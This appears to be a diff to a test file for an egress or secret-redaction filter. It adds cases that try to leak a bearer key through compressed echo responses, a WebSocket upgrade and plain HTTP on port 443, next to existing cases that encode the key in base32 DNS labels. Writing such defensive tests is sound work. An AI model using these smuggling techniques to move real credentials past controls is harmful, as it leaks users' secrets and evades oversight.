@@ -159,4 +159,34 @@ export const secrets: readonly Attack[] = numbered('X', 'secrets', [
   ]),
   { what: 'the key in a body, in UTF-16', step: post('{WIDE}'), stopped: SECRET },
   { what: 'the key in base32, in labels below a wildcard', step: connectTo('{B32LABELS}.lead.test:80'), stopped: SECRET },
+  ...['/echo-reason', '/echo-gzip', '/echo-deflate', '/echo-br', '/echo-transfer'].map((path) => ({
+    what: `the answer of the own host echoes the value (${path})`,
+    step: toOwn(`GET ${path} HTTP/1.1`, 'Authorization: Bearer {KEY}', 'Accept-Encoding: gzip, br'),
+    stopped: '[redacted:egress]',
+  })),
+  {
+    what: 'the answer of the own host echoes the value, compressed in a way that nobody here can undo',
+    step: toOwn('GET /echo-zstd HTTP/1.1', 'Authorization: Bearer {KEY}'),
+    stopped: "can't be read",
+  },
+  {
+    what: 'the same instead of a WebSocket',
+    step: toOwn(
+      'GET /echo-gzip HTTP/1.1',
+      'Authorization: Bearer {KEY}',
+      'Connection: Upgrade',
+      'Upgrade: websocket',
+      'Sec-WebSocket-Version: 13',
+      'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
+    ),
+    stopped: '[redacted:egress]',
+  },
+  {
+    what: 'the key to its own host, in plain HTTP on the port of TLS',
+    step: {
+      kind: 'write',
+      pieces: [request('GET http://own.test:443/key HTTP/1.1', 'Host: own.test:443', 'Authorization: Bearer {KEY}')],
+    },
+    stopped: 'network.mismatch',
+  },
 ]);
